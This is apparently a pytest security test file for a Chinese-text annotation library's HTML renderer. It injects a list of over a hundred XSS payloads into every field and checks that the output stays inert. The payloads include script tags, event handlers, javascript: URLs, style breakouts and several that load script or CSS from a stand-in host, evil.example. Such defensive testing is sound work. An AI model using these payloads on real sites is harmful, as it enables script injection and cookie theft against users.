"""Script injection: hostile text in every field and option of every HTML writer.

Each payload goes into every text field of the model (title, heading, paragraph text,
annotated characters, syllables, source), every text option (page title, source label,
extra CSS) and every field of an editor-view finding (message, fix, path), then through
the standalone page, the fragment and the editor view. The output is parsed with
html5lib, as a browser would, and must hold only the elements and attributes the
writers make, with attribute values of the shapes they make; the one ``<style>`` must
hold no ``<``; user text must come out as text.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from xml.etree import ElementTree

import html5lib
import pytest

from hanzi_annot import (
    Annotation,
    Code,
    Diagnostic,
    Document,
    HtmlOptions,
    HtmlRenderer,
    Paragraph,
    Section,
    Severity,
    Span,
    Text,
)
from hanzi_annot.chardata import HTML_UNWRITABLE_RE

PAYLOADS = [
    # script elements
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script\t>alert(1)</script>",
    "<script>/*</script>*/alert(1)</script>",
    "</p><script>alert(1)</script><p>",
    "</ruby><script>alert(1)</script>",
    "</rt><script>alert(1)</script><rt>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<math><mi><script>alert(1)</script></mi></math>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    # event handlers
    "<img src=x onerror=alert(1)>",
    '<img src=x onerror="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<div onmouseover=alert(1)>悬停</div>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<iframe onload=alert(1)>",
    "<object data=x onerror=alert(1)>",
    "<a onclick=alert(1)>点击</a>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    "` onmouseover=`alert(1)",
    # javascript: and data: URLs
    "<a href=javascript:alert(1)>链接</a>",
    '<a href="jav&#x09;ascript:alert(1)">链接</a>',
    '<a href="&#106;avascript:alert(1)">链接</a>',
    "<a href=JaVaScRiPt:alert(1)>链接</a>",
    '<a href=" javascript:alert(1)">链接</a>',
    "<iframe src=javascript:alert(1)>",
    '<iframe src="data:text/html,<script>alert(1)</script>">',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>提交</button></form>",
    "<button formaction=javascript:alert(1)>按钮</button>",
    "<math href=javascript:alert(1)>公式</math>",
    "<svg><a xlink:href=javascript:alert(1)><text>链接</text></a></svg>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<base href=javascript:alert(1)//>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "javascript:alert(document.cookie)",
    # style breakouts
    "</style><script>alert(1)</script>",
    "</STYLE><script>alert(1)</script>",
    "</style ><script>alert(1)</script>",
    "</style\t><img src=x onerror=alert(1)>",
    "</sTyLe/><svg onload=alert(1)>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<style>@import 'http://evil.example/x.css';</style>",
    '<div style="background:url(javascript:alert(1))">',
    '<div style="width:expression(alert(1))">',
    'x{background:url("javascript:alert(1)")}',
    "}</style><style>body{display:none}",
    "@import url(//evil.example/x.css);",
    "<style/onload=alert(1)>",
    # comment and CDATA tricks
    "<!--<script>alert(1)</script>-->",
    "--><script>alert(1)</script><!--",
    "<!-- --!><script>alert(1)</script>",
    "<!--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "<?xml-stylesheet href=javascript:alert(1)?>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<!ELEMENT x ANY><script>alert(1)</script>",
    "<% alert(1) %>",
    # entity tricks
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "&#0000060script&#0000062alert(1)",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;",
    "&quot; onmouseover=&quot;alert(1)",
    "&apos;;alert(1);//",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\u003cscript\\u003ealert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    # unicode tricks
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\ufe64script\ufe65alert(1)",
    "\u2039script\u203aalert(1)",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "<\u0000script>alert(1)</script>",
    "<script\x00>alert(1)</script>",
    "\u202e>tpircs/<)1(trela>tpircs<",
    "<img src=x onerror\u2028=alert(1)>",
    "<img src=x\x0conerror=alert(1)>",
    "<\ufeffscript>alert(1)</script>",
    "\ud800<script>alert(1)</script>",
    "<script>\U0001f600</script>",
    "\x1b[31m<script>alert(1)</script>",
    "国家(guójiā)<script>alert(1)</script>",
    # framework and template tricks
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    "<isindex action=javascript:alert(1) type=image>",
    "<table background=javascript:alert(1)>",
    '<img srcset="x 1x, javascript:alert(1) 2x">',
    "<a href=# id=ha-f1>冒充的检查结果</a>",
    "<input id=ha-show-pinyin type=checkbox>",
    "<label for=ha-show-pinyin>冒充的开关</label>",
]

ELEMENTS = {
    "html": {"lang"},
    "head": set(),
    "meta": {"charset", "name", "content"},
    "title": set(),
    "style": set(),
    "body": set(),
    "input": {"type", "id", "class", "checked", "name", "value"},
    "aside": {"class", "aria-label", "aria-labelledby"},
    "label": {"for"},
    "fieldset": set(),
    "legend": set(),
    "article": {"class"},
    "div": {"class"},
    "section": set(),
    "h1": set(),
    "h2": {"id"},
    "p": set(),
    "footer": set(),
    "span": {"class"},
    "ruby": {"style", "class", "data-codes", "title", "data-hsk"},
    "rt": {"lang", "aria-hidden", "style", "class"},
    "rp": {"aria-hidden"},
    "a": {"class", "id", "href"},
    "ol": set(),
    "li": {"id", "class"},
}
SHAPES = {
    "href": re.compile(r"#ha-[a-z0-9-]+"),
    "id": re.compile(r"ha-[a-z0-9-]+"),
    "for": re.compile(r"ha-[a-z0-9-]+"),
    "class": re.compile(r"ha-[a-z0-9-]+( ha-[a-z0-9-]+)*"),
    "style": re.compile(r"((margin-left|margin-right|letter-spacing):-?[0-9.]+em;?)+"),
    "data-codes": re.compile(r"HA\d{3}( HA\d{3})*"),
    "data-hsk": re.compile(r"[1-9]"),
    "lang": re.compile(r"zh-Hans|zh-Latn-pinyin|zh-Bopo"),
    "aria-hidden": re.compile(r"true"),
    "type": re.compile(r"checkbox|radio"),
    "name": re.compile(r"viewport|ha-hsk"),
    "value": re.compile(r"[0-9]"),
    "checked": re.compile(r""),
    "charset": re.compile(r"utf-8"),
    "content": re.compile(r"width=device-width, initial-scale=1"),
}


def hostile_annotation(payload: str) -> Annotation:
    """The payload as the characters and the syllable, where the model accepts it."""
    try:
        return Annotation(payload[:1] or "字", (payload,))
    except ValueError:  # e.g. two tone marks in one syllable
        return Annotation("字", ("zì",))


def hostile_document(payload: str) -> Document:
    annotation = Annotation("国家", ("guó", "jiā"), span=Span(3, 13))
    return Document(
        Paragraph((Text(payload),)),
        (
            Section(
                Paragraph((Text(payload), hostile_annotation(payload))),
                (Paragraph((Text(payload), annotation, Text(payload))),),
            ),
        ),
        source=payload,
    )


def hostile_finding(payload: str) -> Diagnostic:
    return Diagnostic(
        Code.RUBY_MISMATCH, Severity.ERROR, payload, Span(3, 5), 1, 4, hint=payload, path=payload
    )


def writers(payload: str) -> Iterator[tuple[str, str]]:
    """Every writer, with the payload in every field and text option."""
    doc = hostile_document(payload)
    options = {"page_title": payload, "source_label": payload, "extra_css": payload}
    for name, extra in (
        ("page", {}),
        ("fragment", {"standalone": False}),
        ("word-zhuyin", {"ruby": "word", "notation": "zhuyin", "tone_classes": True}),
    ):
        rendered = HtmlRenderer(HtmlOptions(**options, **extra)).render(doc)  # type: ignore[arg-type]
        yield name, rendered.html
    editor = HtmlRenderer(HtmlOptions(**options), diagnostics=[hostile_finding(payload)])  # type: ignore[arg-type]
    yield "editor", editor.render(doc).html
    yield (
        "paragraph",
        HtmlRenderer(HtmlOptions(**options)).render(doc.sections[0].paragraphs[0]).html,
    )  # type: ignore[arg-type]


def check_tree(root: ElementTree.Element) -> None:
    styles = 0
    for element in root.iter():
        tag = element.tag
        assert isinstance(tag, str), f"unexpected node {tag!r}"
        assert tag in ELEMENTS, f"element <{tag}> was injected"
        for attribute, value in element.attrib.items():
            assert attribute in ELEMENTS[tag], f"attribute {attribute} on <{tag}> was injected"
            shape = SHAPES.get(attribute)
            if shape is not None:
                assert shape.fullmatch(value), f"{attribute}={value!r} on <{tag}>"
        if tag == "style":
            styles += 1
            assert "<" not in (element.text or "")
    assert styles <= 1


def test_the_corpus_is_big_and_distinct() -> None:
    assert len(PAYLOADS) >= 100
    assert len(set(PAYLOADS)) == len(PAYLOADS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_stays_text_in_every_writer(payload: str) -> None:
    for name, html in writers(payload):
        root = html5lib.parse(html, treebuilder="etree", namespaceHTMLElements=False)
        check_tree(root)
        text = "".join(root.itertext())
        expected = HTML_UNWRITABLE_RE.sub("\ufffd", payload).replace("\r", "\n")
        if "\x00" not in payload:
            assert expected in text, name


@pytest.mark.parametrize(
    "css",
    [
        "</style><script>alert(1)</script>",
        "</STYLE><script>alert(1)</script>",
        "p{}</style\n><script>alert(1)</script>",
        "p{color:red}<!--</style><script>alert(1)</script>-->",
    ],
)
def test_extra_css_cannot_close_the_style_element(css: str) -> None:
    html = HtmlRenderer(HtmlOptions(extra_css=css)).render(hostile_document("正文")).html
    root = html5lib.parse(html, treebuilder="etree", namespaceHTMLElements=False)
    (style,) = root.iter("style")
    assert style.text is not None
    assert style.text.endswith(css.replace("<", "\\3c "))
    assert list(root.iter("script")) == []


def test_control_characters_in_options_become_replacement_characters_with_a_note() -> None:
    options = HtmlOptions(source_label="\x00来源", extra_css="p{}\x01", page_title="题\x02")
    result = HtmlRenderer(options).render(hostile_document("正文"))
    assert "\x00" not in result.html
    assert "\x01" not in result.html
    places = sorted(d.message.split(" in ")[1].split(",")[0] for d in result.diagnostics)
    assert places == ["extra CSS", "page title", "source label"]
    assert {d.code for d in result.diagnostics} == {Code.UNWRITABLE_CHARACTER}


def test_the_package_ships_no_script() -> None:
    import hanzi_annot.html

    folder = Path(hanzi_annot.html.__file__).parent
    assert list(folder.glob("*.js")) == []
    html = HtmlRenderer(diagnostics=[hostile_finding("x")]).render(hostile_document("正文")).html
    assert "<script" not in html.lower()
    assert not re.search(r"\son[a-z]+=", html)


def test_render_css_file_cannot_close_the_style_element(tmp_path: Path) -> None:
    from hanzi_annot.cli import main

    article = tmp_path / "a.txt"
    article.write_text("江城老街焕新颜\n\n今年以来，老街完成改造(gǎizào)。\n", encoding="utf-8")
    evil = tmp_path / "evil.css"
    evil.write_text("p{color:red}</style><script>alert(1)</script>\x01", encoding="utf-8")
    page = tmp_path / "a.html"
    assert main(["render", str(article), "--css", str(evil), "-o", str(page)]) == 0
    root = html5lib.parse(page.read_text(encoding="utf-8"), treebuilder="etree",
                          namespaceHTMLElements=False)  # fmt: skip
    check_tree(root)
    assert list(root.iter("script")) == []
